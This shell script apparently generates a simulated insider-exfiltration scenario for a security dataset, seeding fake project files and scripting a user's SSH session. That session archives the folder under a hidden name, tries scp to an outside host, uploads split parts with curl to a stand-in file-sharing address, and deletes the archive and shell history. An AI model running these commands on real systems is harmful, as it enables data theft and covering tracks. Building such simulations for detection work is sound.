#!/bin/sh
# SPDX-License-Identifier: Apache-2.0
# An insider copies data out over the network.
# Host: files
# When: 2026-11-20T18:47:05
#
# Alice, who may read the project's folder, logs in over SSH in the evening,
# packs the folder under a hidden name in /var/tmp, tries scp to a host of her
# own (nobody answers), sends the pack to a file-sharing site in three parts,
# and removes the pack and her shell's history.
# samples/record.sh tells what runs where.
set -eu
here=$(cd "$(dirname "$0")" && pwd)

net() {
	echo "host=192.168.20.31,hostfwd=tcp:127.0.0.1:$SSH-192.168.20.15:22,guestfwd=tcp:203.0.113.50:80-cmd:sh $here/stage.sh peer share"
}

prepare() {
	project=/srv/projects/atlas
	mkdir -p $project/design $project/customers $project/keys
	for n in 1 2 3 4 5 6; do
		head -c 40000 /dev/urandom | base64 >$project/design/drawing-$n.dxf
		seq -f "customer %05g; contract; $n" 1 400 >$project/customers/region-$n.csv
	done
	head -c 32 /dev/urandom | base64 >$project/keys/licence-signing.key
	chgrp -R alice /srv/projects
	chmod -R o-rwx /srv/projects
	printf '%s\n' 'cd /srv/projects' 'ls' 'exit' >/home/alice/.bash_history
	chown alice: /home/alice/.bash_history
	chmod 600 /home/alice/.bash_history
	/usr/sbin/sshd
	cron
	sleep 1
}

# Types slowly enough to be a person.
typed() {
	sleep 4
	while read -r line; do
		printf '%s\n' "$line"
		sleep 2
	done
	sleep 1
}

outside() {
	typed <<-'KEYS' | ssh -tt -i "$KEY" -p "$SSH" -o StrictHostKeyChecking=no \
		-o UserKnownHostsFile=/dev/null alice@127.0.0.1
	ls -l /srv/projects
	du -sh /srv/projects/atlas
	mkdir /var/tmp/.thumbs
	tar -cf /var/tmp/.thumbs/a.tar -C /srv/projects atlas
	xz -0 /var/tmp/.thumbs/a.tar
	scp -o ConnectTimeout=3 -o StrictHostKeyChecking=no /var/tmp/.thumbs/a.tar.xz alice@198.51.100.40:
	split -n 3 /var/tmp/.thumbs/a.tar.xz /var/tmp/.thumbs/img_
	for f in /var/tmp/.thumbs/img_a?; do curl -s -T $f http://203.0.113.50/u/; done
	rm -rf /var/tmp/.thumbs
	rm -f ~/.bash_history; unset HISTFILE
	exit
	KEYS
}

peer() { exec perl "$here/../peer.pl"; }

"$@"
